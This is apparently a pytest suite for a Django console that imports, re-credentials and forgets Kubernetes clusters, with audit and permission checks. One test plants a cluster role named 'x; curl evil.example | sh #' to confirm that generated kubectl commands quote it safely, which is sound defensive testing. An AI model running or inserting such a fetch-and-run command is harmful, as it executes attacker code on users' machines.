"""What becomes of imported clusters: an own account, new credentials, forgotten."""

from __future__ import annotations

import shlex
import time
from datetime import timedelta
from html import unescape

import pytest
import yaml
from django.db import connections
from django.utils import timezone
from django.utils.html import escape

from clusters import expiry, importing
from clusters.import_needs import NEEDS
from clusters.import_page import rights_of
from clusters.inventory.imports import work
from clusters.kube import connect
from clusters.kube.credentials import CA, CERTIFICATE, KEY, TOKEN, credentials_of
from clusters.models import Cluster, ClusterImport, ClusterSecret, ImportState, Origin
from console.accounts.sessions import CONFIRMED
from console.audit.models import AuditEvent
from tests.factories import ClusterFactory
from tests.unit.clusters.import_server import ACCOUNT_TOKEN, ImportServer
from tests.unit.clusters.import_steps import PAGE, checked, imported, kubeconfig, save, text_of

pytestmark = pytest.mark.django_db(transaction=True)
RBAC = "/apis/rbac.authorization.k8s.io/v1"
OUR_NAMESPACE = "/api/v1/namespaces/flotilla"


def test_the_account_is_shown_made_and_kept_instead_of_what_was_given(admin_client, admin, server):
    row = checked(admin_client, kubeconfig(server))
    page = text_of(admin_client.get(f"{PAGE}{row.pk}/"))
    save(admin_client, row, "account")
    assert not Cluster.objects.exists()
    assert server.applied == []  # the watcher does it
    assert work() == 1
    kinds = ["Namespace", "ServiceAccount", "ClusterRole", "ClusterRoleBinding", "Secret"]
    assert [item["kind"] for item in server.applied] == kinds
    # Exactly what the page showed, in the same order.
    assert escape(yaml.safe_dump_all(server.applied, sort_keys=False)) in page
    cluster = Cluster.objects.get()
    secrets = {row.name: row.value for row in cluster.secrets.all()}
    assert secrets == {CA: server.authority.crt, TOKEN: ACCOUNT_TOKEN}
    row.refresh_from_db()
    assert row.given == ""
    event = AuditEvent.objects.get(action="cluster.imported")
    assert event.actor == admin
    assert event.after["own_account"] is True


def test_an_account_that_cannot_be_made_leaves_the_choice(admin_client, admin, server):
    row = checked(admin_client, kubeconfig(server))
    server.forbidden_patch = f"{RBAC}/clusterroles/flotilla:console"
    save(admin_client, row, "account")
    work()
    row.refresh_from_db()
    assert row.state == ImportState.CHECKED
    assert "403" in text_of(admin_client.get(f"{PAGE}{row.pk}/"))
    assert not Cluster.objects.exists()
    event = AuditEvent.objects.get(action="cluster.imported")
    assert (event.outcome, event.object_name, event.actor) == ("failure", "shop", admin)
    save(admin_client, row)
    assert Cluster.objects.get().secrets.get(name=TOKEN).value == "a-token"


def test_an_account_whose_cluster_gives_no_token_is_not_kept(admin_client, server, monkeypatch):
    monkeypatch.setattr("clusters.console_account.TOKEN_SECONDS", 0.2)
    row = checked(admin_client, kubeconfig(server))
    server.fills_tokens = False
    save(admin_client, row, "account")
    work()
    row.refresh_from_db()
    assert "kube-controller-manager" in row.problem
    assert not Cluster.objects.exists()


def test_credentials_are_replaced_after_the_same_check(admin_client, server):
    cluster = imported(admin_client, server)
    server.accepted = {"new-token"}
    text = kubeconfig(server, token="new-token")
    page = f"/clusters/{cluster.pk}/credentials/"
    admin_client.post(page, {"way": "kubeconfig", "kubeconfig": text})
    row = ClusterImport.objects.get()
    assert row.state == ImportState.WAITING  # there was nothing to choose
    assert work() == 1
    save(admin_client, row)
    assert connect(cluster).version() == "v1.20.2"
    assert server.tokens[-1] == "new-token"
    assert AuditEvent.objects.filter(action="cluster.credentials_replaced").count() == 1
    assert Cluster.objects.get().name == "shop"


def test_credentials_of_another_cluster_are_refused(admin_client, authority, server):
    cluster = imported(admin_client, server)
    with ImportServer(authority, uid="uid-2") as second:
        page = f"/clusters/{cluster.pk}/credentials/"
        admin_client.post(page, {"way": "kubeconfig", "kubeconfig": kubeconfig(second)})
        assert work() == 1
    row = ClusterImport.objects.get()
    assert "another cluster than shop" in row.results[0]["problem"]
    save(admin_client, row)
    cluster.refresh_from_db()
    assert cluster.endpoint == server.endpoint


def test_a_certificate_without_a_ca_is_enough_for_an_imported_cluster(authority):
    cluster = ClusterFactory(origin=Origin.IMPORTED, endpoint="https://192.0.2.1")
    certificate, key = authority.client()
    ClusterSecret.objects.create(cluster=cluster, name=CERTIFICATE, value=certificate)
    ClusterSecret.objects.create(cluster=cluster, name=KEY, value=key)
    given = credentials_of(cluster)
    assert (given.ca, given.certificate) == ("", certificate)
    assert given.outbound is not None


def test_a_warning_of_the_end_does_not_hide_why_a_cluster_is_away(admin_client):
    cluster = ClusterFactory(
        origin=Origin.IMPORTED,
        endpoint="",
        status="unreachable",
        status_reason="It did not answer in time.",
        credentials_expire=timezone.now() + timedelta(days=2),
    )
    page = text_of(admin_client.get(f"/clusters/{cluster.pk}/"))
    assert "It did not answer in time." in page
    assert "credentials for this cluster end" in page


@pytest.mark.parametrize("page", ["credentials", "forget", "forget/there"])
def test_clusters_of_the_consoles_own_making_have_no_such_page(admin_client, page):
    cluster = ClusterFactory(origin=Origin.PROVISIONED)
    assert admin_client.get(f"/clusters/{cluster.pk}/{page}/").status_code == 404


def test_an_imported_cluster_offers_nothing_that_needs_hosts(admin_client, server):
    cluster = imported(admin_client, server)
    Cluster.objects.update(seen=timezone.now())
    page = text_of(admin_client.get(f"/clusters/{cluster.pk}/"))
    for offered in ("repair", "delete", "upgrade", "add-nodes", "kubeconfig", "drill", "renew"):
        assert f"/clusters/{cluster.pk}/{offered}/" not in page
    for tab in ("certificates", "drills", "control-plane"):
        assert admin_client.get(f"/clusters/{cluster.pk}/{tab}/").status_code == 404
    assert f"/clusters/{cluster.pk}/credentials/" in page
    assert f"/clusters/{cluster.pk}/forget/" in page


def made_there(server: ImportServer) -> None:
    """What an exchange and the console's roles leave in a cluster."""
    roles = [{"metadata": {"name": name}} for name in ("flotilla:console", "flotilla:operator")]
    for plural in ("clusterroles", "clusterrolebindings"):
        server.paths[f"{RBAC}/{plural}"] = {"metadata": {}, "items": roles}
        for role in roles:
            server.paths[f"{RBAC}/{plural}/{role['metadata']['name']}"] = role
    labels = {"app.kubernetes.io/managed-by": "flotilla"}
    server.paths[OUR_NAMESPACE] = {"metadata": {"labels": labels}}


def test_forgetting_names_what_is_there_and_cleans_up(admin_client, admin, server):
    cluster = imported(admin_client, server)
    made_there(server)
    there = text_of(admin_client.get(f"/clusters/{cluster.pk}/forget/there/"))
    assert "kubectl delete clusterrole flotilla:operator" in there
    assert "kubectl delete namespace flotilla" in there
    page = f"/clusters/{cluster.pk}/forget/"
    answer = admin_client.post(page, {"confirm_name": "other", "clean_up": "on"})
    assert "This is not the name" in text_of(answer)
    assert server.deleted == []
    admin_client.post(page, {"confirm_name": "shop", "clean_up": "on"})
    assert not Cluster.objects.exists()
    assert not ClusterSecret.objects.exists()
    assert f"{RBAC}/clusterroles/flotilla:operator" in server.deleted
    # Its own rights go last: without them nothing more can be removed.
    assert server.deleted[-2:] == [
        f"{RBAC}/clusterrolebindings/flotilla:console",
        f"{RBAC}/clusterroles/flotilla:console",
    ]
    event = AuditEvent.objects.get(action="cluster.forgotten")
    assert (event.actor, event.object_name) == (admin, "shop")
    assert event.after["left"] == []


def test_a_name_from_the_cluster_is_no_command_of_the_one_to_be_pasted(admin_client, server):
    """RBAC takes any name: who may make a role there would run programs on the admin's machine."""
    cluster = imported(admin_client, server)
    made_there(server)
    name = "x; curl evil.example | sh #"
    server.paths[f"{RBAC}/clusterroles"]["items"] = [{"metadata": {"name": name}}]
    there = unescape(text_of(admin_client.get(f"/clusters/{cluster.pk}/forget/there/")))
    commands = there.partition('id="by-hand">')[2].partition("</pre>")[0].splitlines()
    assert ["kubectl", "delete", "clusterrole", name] in [shlex.split(c) for c in commands]


def test_without_the_box_nothing_there_is_touched(admin_client, server):
    cluster = imported(admin_client, server)
    made_there(server)
    admin_client.post(f"/clusters/{cluster.pk}/forget/", {"confirm_name": "shop"})
    assert not Cluster.objects.exists()
    assert server.deleted == []


def test_a_namespace_that_is_not_ours_stays(admin_client, server):
    cluster = imported(admin_client, server)
    made_there(server)
    server.paths[OUR_NAMESPACE] = {"metadata": {"labels": {}}}
    given = {"confirm_name": "shop", "clean_up": "on"}
    admin_client.post(f"/clusters/{cluster.pk}/forget/", given)
    assert OUR_NAMESPACE not in server.deleted


def test_a_cluster_that_is_away_can_be_forgotten_with_the_commands(admin_client, server):
    cluster = imported(admin_client, server)
    page = f"/clusters/{cluster.pk}/forget/"
    server.down()
    try:
        there = text_of(admin_client.get(f"{page}there/"))
        assert "kubectl delete clusterrolebindings,clusterroles -l" in there
        given = {"confirm_name": "shop", "clean_up": "on"}
        assert "kubectl delete" in text_of(admin_client.post(page, given, follow=True))
    finally:
        server.up()
    assert not Cluster.objects.exists()


def test_a_slow_cluster_holds_up_its_forgetting_for_seconds_and_what_is_left_is_named(
    admin_client, server
):
    cluster = imported(admin_client, server)
    made_there(server)
    page = f"/clusters/{cluster.pk}/forget/"
    server.seconds = 1.3
    began = time.monotonic()
    answer = admin_client.post(page, {"confirm_name": "shop", "clean_up": "on"}, follow=True)
    assert time.monotonic() - began < 9
    assert "Something of this console is left there" in text_of(answer)
    assert "kubectl delete clusterrole flotilla:console" in text_of(answer)
    assert not Cluster.objects.exists()
    left = AuditEvent.objects.get(action="cluster.forgotten").after["left"]
    assert "ClusterRole flotilla:console" in left


def told_of(row: ClusterImport) -> list[str]:
    """What the record says of an import, apart from the cluster that it made."""
    past = timezone.now() - timedelta(hours=2)
    ClusterImport.objects.filter(pk=row.pk).update(expires=past)
    importing.discard_old()
    importing.discard_old()
    assert not ClusterImport.objects.exists()
    found = AuditEvent.objects.filter(action__startswith="cluster.import_")
    return list(found.order_by("pk").values_list("action", flat=True))


def test_credentials_that_nobody_used_are_recorded_when_they_come_and_when_they_go(
    admin_client, admin, server
):
    row = checked(admin_client, kubeconfig(server))
    assert told_of(row) == ["cluster.import_begun", "cluster.import_dropped"]
    begun, dropped = AuditEvent.objects.filter(action__startswith="cluster.import_").order_by("pk")
    assert (begun.actor, dropped.actor) == (admin, None)
    assert begun.object_name == dropped.object_name != ""
    assert dropped.reason == "its time was over"


def test_an_import_that_was_saved_is_not_said_to_be_dropped(admin_client, server):
    row = checked(admin_client, kubeconfig(server))
    save(admin_client, row, "given")
    assert Cluster.objects.exists()
    assert told_of(row) == ["cluster.import_begun"]


def test_an_exchange_that_is_under_way_is_not_thrown_away(admin_client, admin, server):
    row = checked(admin_client, kubeconfig(server))
    save(admin_client, row, "account")
    assert ClusterImport.objects.get(pk=row.pk).state == ImportState.EXCHANGE

    class Noting(list):
        """Somebody begins another import at the moment at which this one's hour is over."""

        def append(self, body: dict) -> None:
            past = timezone.now() - timedelta(seconds=1)
            ClusterImport.objects.filter(pk=row.pk).update(expires=past)
            importing.discard_old()
            connections.close_all()
            super().append(body)

    server.applied = Noting()
    work()
    row = ClusterImport.objects.get(pk=row.pk)
    assert row.state == ImportState.SAVED
    assert Cluster.objects.filter(pk__in=row.saved).exists()
    ClusterImport.objects.update(expires=timezone.now())
    work()
    assert not ClusterImport.objects.exists(), "done, it goes with its hour"


def test_an_exchange_that_waits_while_its_hour_ends_is_still_made(admin_client, server):
    row = checked(admin_client, kubeconfig(server))
    save(admin_client, row, "account")
    ClusterImport.objects.update(expires=timezone.now() - timedelta(minutes=1))
    work()
    assert Cluster.objects.count() == 1
    ClusterImport.objects.update(
        state=ImportState.EXCHANGE, expires=timezone.now() - timedelta(hours=1)
    )
    work()
    assert not ClusterImport.objects.exists(), "what nobody works on does not keep its secrets"


@pytest.mark.parametrize("page", ["forget", "credentials"])
def test_dangerous_pages_ask_for_the_password(admin_client, server, page):
    cluster = imported(admin_client, server)
    held = admin_client.session
    held[CONFIRMED] = 0
    held.save()
    answer = admin_client.get(f"/clusters/{cluster.pk}/{page}/")
    assert answer.status_code == 302
    assert "confirm-password" in answer["Location"]


@pytest.mark.parametrize(
    ("left", "step"),
    [(31, None), (29.9, 30), (7.5, 30), (6.9, 7), (1.5, 7), (0.9, 1), (-0.1, 0), (-50, 0)],
)
def test_the_end_of_credentials_is_warned_of_in_steps(left, step):
    ends = timezone.now() + timedelta(days=left)
    cluster = ClusterFactory(origin=Origin.IMPORTED, credentials_expire=ends)
    found = expiry.of_cluster(cluster)
    assert (found and found.step) == step if step is not None else found is None


@pytest.mark.parametrize("days", [20, 0.5, -3])
def test_the_page_warns_and_leads_to_the_mend(admin_client, auditor_client, days):
    ends = timezone.now() + timedelta(days=days)
    cluster = ClusterFactory(origin=Origin.IMPORTED, credentials_expire=ends, endpoint="")
    page = text_of(admin_client.get(f"/clusters/{cluster.pk}/"))
    assert "credentials for this cluster end" in page
    assert "Replace them" in page
    # Who may not replace them is warned and offered nothing.
    page = text_of(auditor_client.get(f"/clusters/{cluster.pk}/"))
    assert "credentials for this cluster end" in page
    assert "Replace them" not in page


LACKING = {need.id: [] for need in NEEDS} | {"metrics": ["get nodes/proxy"]}


def test_what_the_console_may_not_do_is_said_with_who_can_mend_it(admin_client, auditor_client):
    cluster = ClusterFactory(origin=Origin.IMPORTED, options={"account": False, "rights": LACKING})
    page = text_of(admin_client.get(f"/clusters/{cluster.pk}/"))
    assert "What the console may do here" in page
    assert "Charts need the metrics-server then." in page and "get nodes/proxy" in page
    assert page.count(">Not allowed<") == 1
    assert f'href="/clusters/{cluster.pk}/credentials/">replace the credentials' in page
    seen = text_of(auditor_client.get(f"/clusters/{cluster.pk}/"))
    assert "ask somebody with the role admin" in seen
    assert f"/clusters/{cluster.pk}/credentials/" not in seen
    own = ClusterFactory(origin=Origin.PROVISIONED)
    assert "What the console may do" not in text_of(admin_client.get(f"/clusters/{own.pk}/"))


def test_rights_follow_what_the_cluster_has_answered_since(admin_client):
    cluster = ClusterFactory(origin=Origin.IMPORTED, options={"account": True, "rights": LACKING})
    assert {row.state for row in rights_of(cluster).granted} == {"ok"}, "its own role has all"
    cluster.not_watched = {"ingresses.networking.k8s.io": "403"}
    cluster.access = {"state": "refused", "reason": "it may not impersonate"}
    states = {row.need.id: row.state for row in rights_of(cluster).granted}
    assert (states["inventory"], states["impersonate"]) == ("denied", "denied")
    assert (states["roles"], states["custom"]) == ("ok", "ok")
    older = ClusterFactory(origin=Origin.IMPORTED, options={})
    assert "Nobody has looked yet" in text_of(admin_client.get(f"/clusters/{older.pk}/"))
